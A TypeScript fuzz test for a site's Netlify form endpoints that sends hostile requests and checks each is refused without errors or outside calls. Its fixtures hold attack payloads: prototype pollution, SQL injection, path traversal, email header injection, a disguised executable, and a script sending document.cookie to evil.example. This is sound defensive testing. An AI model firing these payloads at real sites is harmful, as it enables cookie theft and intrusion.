import http from "node:http"
import https from "node:https"
import net from "node:net"
import fc from "fast-check"
import type { AnySchema } from "yup"
import { LOCALE_CODES } from "../src/config/locales"
import { DATA_FORMS, HUBSPOT_FORMS, WEB_TO_LEAD_FORMS, type FormDefinition } from "./lib/forms/definitions"
import { endpoints } from "./test-support/endpoints"

/**
 * Every endpoint in netlify/functions (any function with a path) gets at least 1,000 malformed or
 * hostile requests: broken and hostile JSON, wrong types, huge and binary bodies, odd methods and
 * content types, garbage query strings. It must answer every one, below 500, without throwing and
 * without calling anything outside (fetch, HTTP, sockets). Endpoints added later are found here.
 */
const RUNS_PER_ENDPOINT = 1000
const SEED = 20261122

/** What the Netlify runtime hands a v2 function, minus anything that reaches outside. */
function fakeContext(requestUrl: string) {
  return {
    ip: "203.0.113.7",
    requestId: "hostile-input-test",
    geo: { country: { code: "NL", name: "Netherlands" } },
    params: {},
    url: new URL(requestUrl),
    site: { id: "test", name: "test", url: "http://localhost" },
    account: { id: "test" },
    deploy: { id: "test", context: "dev", published: false },
    server: { region: "local" },
    cookies: { get: () => undefined, set: () => undefined, delete: () => undefined },
    json: (body: unknown) => Response.json(body),
    log: () => undefined,
    next: () => Promise.resolve(new Response(null, { status: 404 })),
    rewrite: () => Promise.resolve(new Response(null, { status: 404 })),
    waitUntil: () => undefined,
  }
}

const hostileStrings = fc.oneof(
  fc.string(),
  fc.string({ unit: "binary" }),
  fc.constantFrom(
    "",
    "{",
    "null",
    "[]",
    "true",
    '{"__proto__":{"polluted":true}}',
    '{"constructor":{"prototype":{"polluted":true}}}',
    "<script>alert(1)</script>",
    "' OR 1=1 --",
    "../../etc/passwd",
    "%00",
    "\u0000\uffff\ud800",
    "9".repeat(400),
    "a".repeat(100_000),
    // Issue 19's audit: control characters and bidi overrides, an ad click's landing URL.
    "Jansen\u0000 Transport\u001b[31m\u202Egpj.exe\r\nBcc: x@evil.example\u2066",
    `https://www.fleetlane.example/nl/contact/?utm_source=google&gclid=${"EAIaIQobChMI".repeat(200)}`,
  ),
)
/** Issue 19's audit: consent as "true" or [1], text as true or 1e308. */
const auditValues = fc.constantFrom<unknown>("true", [1], true, 1e308, { toString: "x" })
const hostileJson = fc.oneof(
  fc.json(),
  fc.jsonValue().map((value) => JSON.stringify(value)),
  fc
    .dictionary(
      fc.oneof(fc.string(), fc.constantFrom("formId", "locale", "values", "email", "q", "kvkNumber", "file", "__proto__")),
      fc.anything(),
    )
    .map((value) => {
      try {
        return JSON.stringify(value)
      } catch {
        return "{}"
      }
    }),
  fc.record({ formId: hostileStrings, locale: hostileStrings, values: fc.anything() }).map((value) => JSON.stringify(value)),
)
/**
 * Issue 19's audit of the forms and applications: a calculator lead with invented numbers and an
 * invented haul type, "call me by phone" without a phone and an extension with letters, one file
 * attached twice, an upload started without the form page's token, a PDF header before a program,
 * an HTML CV with a script.
 */
const FILE_ID = "6b1f4f4e-7d1c-4b0e-9a53-2f1c9d0e8a77"
const formsAuditBodies = fc.constantFrom(
  JSON.stringify({
    formId: "calculator",
    locale: "nl",
    values: {
      company: "Jansen",
      first_name: "Jan",
      last_name: "Jansen",
      email: "jan@example.nl",
      phone: "06 1234 5678",
      privacy: true,
      calculation: {
        drivers: ["costs"],
        assets: ["e-Reefer"],
        haul_type: "Invented",
        frequency: "daily",
        infrastructure: ["none"],
        hours: 2000,
        diesel_total: 999999,
      },
    },
    context: { pageUri: "https://www.fleetlane.example/nl/e-reefer-calculator/", pageName: "Calculator" },
  }),
  JSON.stringify({
    form_id: "ca_contact",
    language: "en-ca",
    branch: "CA01",
    department: "All",
    first_name: "Sam",
    last_name: "Lee",
    email: "sam@example.ca",
    phone: "",
    ext: "12a",
    callback: "Phone",
    feedback: "Call me",
    privacy: true,
  }),
  JSON.stringify({
    formId: "job_application_vacancy",
    locale: "nl",
    values: {
      jobRequisitionId: "JR-1",
      fileList: [
        { fileId: FILE_ID, name: "cv.pdf", size: 1000 },
        { fileId: FILE_ID, name: "cv.pdf", size: 1000 },
      ],
    },
  }),
  JSON.stringify({ name: "cv.pdf", size: 5_242_880 }),
  `%PDF-1.7\nMZ\u0090\u0000\u0003PE\u0000\u0000\n%%EOF\n`,
  "<html><body><h1>CV</h1><script>location='https://evil.example/?'+document.cookie</script></body></html>",
)
const bodies = fc.oneof(hostileStrings, hostileJson, fc.uint8Array({ maxLength: 4096 }), formsAuditBodies)
const queries = fc.oneof(
  fc.dictionary(fc.string(), fc.string()).map((params) => new URLSearchParams(params).toString()),
  fc
    .dictionary(
      fc.constantFrom("q", "query", "keyword", "lat", "lng", "kvkNumber", "page", "license", "vin", "country", "locale"),
      hostileStrings,
    )
    .map((params) => new URLSearchParams(params).toString()),
  fc.constantFrom("%", "%E0%A4%A", "a=%ZZ", "q=" + "x".repeat(10_000), "lat=NaN&lng=Infinity", "q[]=1&q[]=2", "&&&==&"),
)
const requests = fc.record({
  method: fc.constantFrom("GET", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "HEAD"),
  query: queries,
  body: bodies,
  origin: fc.constantFrom(undefined, "https://attacker.example", "null"),
  // Issue 19's audit: one Idempotency-Key reused with different bodies.
  idempotencyKey: fc.constantFrom(undefined, "audit-reused-key-0000000001"),
  contentType: fc.constantFrom(
    "application/json",
    "application/json; charset=utf-8",
    "text/plain",
    "application/x-www-form-urlencoded",
    "multipart/form-data; boundary=x",
    "multipart/form-data",
    "application/octet-stream",
    "",
  ),
})

const outsideCalls: string[] = []
const record =
  (what: string) =>
  (...args: unknown[]): never => {
    outsideCalls.push(`${what} ${String(args[0]).slice(0, 80)}`)
    throw new Error(`${what} is not allowed here`)
  }

beforeAll(() => {
  jest.spyOn(globalThis, "fetch").mockImplementation(record("fetch"))
  jest.spyOn(http, "request").mockImplementation(record("http.request"))
  jest.spyOn(https, "request").mockImplementation(record("https.request"))
  jest.spyOn(net, "connect").mockImplementation(record("net.connect"))
  jest.spyOn(console, "error").mockImplementation(() => undefined)
  jest.spyOn(console, "warn").mockImplementation(() => undefined)
})

afterAll(() => jest.restoreAllMocks())

const found = endpoints()

it("finds the endpoints", () => {
  expect(found.map((endpoint) => endpoint.path)).toContain("/api/health")
})

describe.each(found.map((endpoint) => [endpoint.path, endpoint] as const))("%s with hostile input", (_path, endpoint) => {
  it(
    `answers ${RUNS_PER_ENDPOINT} malformed requests below 500, without throwing or calling out`,
    async () => {
      await fc.assert(
        fc.asyncProperty(requests, async ({ method, query, body, contentType, origin, idempotencyKey }) => {
          outsideCalls.length = 0
          const requestUrl = `http://localhost${endpoint.path}?${query}`
          const withBody = method !== "GET" && method !== "HEAD"
          const request = new Request(requestUrl, {
            method,
            headers: {
              ...(contentType ? { "content-type": contentType } : {}),
              ...(origin ? { origin } : {}),
              ...(idempotencyKey ? { "idempotency-key": idempotencyKey } : {}),
            },
            body: withBody ? body : undefined,
          })
          const response = await endpoint.handler(request, fakeContext(requestUrl))
          expect(response).toBeInstanceOf(Response)
          expect(response.status).toBeLessThan(500)
          await response.arrayBuffer()
          expect(outsideCalls).toEqual([])
        }),
        { numRuns: RUNS_PER_ENDPOINT, seed: SEED, endOnFailure: true },
      )
    },
    5 * 60 * 1000,
  )
})

/**
 * Requests that get past the envelope to a form's own schema: a form id the endpoint takes, a known
 * locale and page, and values shaped like the form's (its field names, nested objects and lists
 * too) holding hostile content. Every form of every submission endpoint gets its own runs, so a
 * form added to a registry (the calculator's lead, say) is held to its schema here as well. None of
 * these is valid: each must be refused with a 4xx, and nothing stored or sent.
 */
const RUNS_PER_FORM = 200
/** A page, or (issue 19's audit) an ad click's landing URL past 2,048 characters. */
const pages = fc.constantFrom(
  { pageUri: "https://www.fleetlane.example/en/", pageName: "Fleetlane" },
  { pageUri: `https://www.fleetlane.example/en/?utm_source=google&gclid=${"EAIaIQobChMI".repeat(200)}`, pageName: "Fleetlane" },
)

type Page = { pageUri: string; pageName: string }
type Envelope = (formId: string, locale: string, values: unknown, page: Page) => Record<string, unknown>
const SUBMISSION_ENDPOINTS: Array<{ path: string; forms: Readonly<Record<string, FormDefinition<never>>>; envelope: Envelope }> = [
  {
    path: "/api/submit-hubspot-data",
    forms: HUBSPOT_FORMS,
    envelope: (formId, locale, values, page) => ({ formId, locale, values, context: page }),
  },
  {
    path: "/api/send-data-form",
    forms: DATA_FORMS,
    envelope: (formId, locale, values, page) => ({ formId, locale, values, context: page }),
  },
  {
    path: "/api/web-to-lead",
    forms: WEB_TO_LEAD_FORMS,
    envelope: (formId, locale, values) => ({ ...(values as object), form_id: formId, language: locale }),
  },
]

interface SchemaDescription {
  type: string
  fields?: Record<string, SchemaDescription>
  innerType?: SchemaDescription
}

/** Hostile values in the shape of a schema: objects keep their keys (any of them may be missing), lists their items. */
function shapedLike(schema: SchemaDescription): fc.Arbitrary<unknown> {
  const hostile = fc.oneof(fc.anything(), hostileStrings, auditValues)
  if (schema.type === "object" && schema.fields) return fc.oneof(hostile, valuesLike(schema.fields))
  if (schema.type === "array" && schema.innerType) return fc.oneof(hostile, fc.array(shapedLike(schema.innerType), { maxLength: 4 }))
  return hostile
}

function valuesLike(fields: Record<string, SchemaDescription>): fc.Arbitrary<Record<string, unknown>> {
  const shape = Object.fromEntries(Object.entries(fields).map(([name, field]) => [name, shapedLike(field)]))
  return fc.record(shape, { requiredKeys: [] })
}

const formCases = SUBMISSION_ENDPOINTS.flatMap(({ path: route, forms, envelope }) =>
  Object.entries(forms).map(
    ([formId, definition]) => [route, formId, definition.schema as AnySchema as SchemaDescription, envelope] as const,
  ),
)

it("tries every form of the submission endpoints, the calculator's lead included", () => {
  expect(formCases.map(([route, formId]) => `${route} ${formId}`)).toContain("/api/submit-hubspot-data calculator")
})

describe.each(formCases)("%s, form %s, with hostile values", (route, formId, schema, envelope) => {
  it(
    `refuses ${RUNS_PER_FORM} hostile submissions with a 4xx, without storing or calling out`,
    async () => {
      const endpoint = found.find((candidate) => candidate.path === route)
      if (!endpoint) throw new Error(`no endpoint at ${route}`)
      let reachedSchema = 0
      await fc.assert(
        fc.asyncProperty(fc.constantFrom(...LOCALE_CODES), valuesLike(schema.fields ?? {}), pages, async (locale, values, page) => {
          outsideCalls.length = 0
          const requestUrl = `http://localhost${route}`
          const request = new Request(requestUrl, {
            method: "POST",
            headers: { "content-type": "application/json" },
            body: JSON.stringify(envelope(formId, locale, values, page)),
          })
          const response = await endpoint.handler(request, fakeContext(requestUrl))
          expect(response.status).toBeGreaterThanOrEqual(400)
          expect(response.status).toBeLessThan(500)
          const body = (await response.json().catch(() => ({}))) as { error?: string }
          if (body.error === "invalid_fields") reachedSchema += 1
          expect(outsideCalls).toEqual([])
        }),
        { numRuns: RUNS_PER_FORM, seed: SEED, endOnFailure: true },
      )
      // The property is about the form's schema: most requests must have got that far.
      expect(reachedSchema).toBeGreaterThan(RUNS_PER_FORM / 2)
    },
    60 * 1000,
  )
})
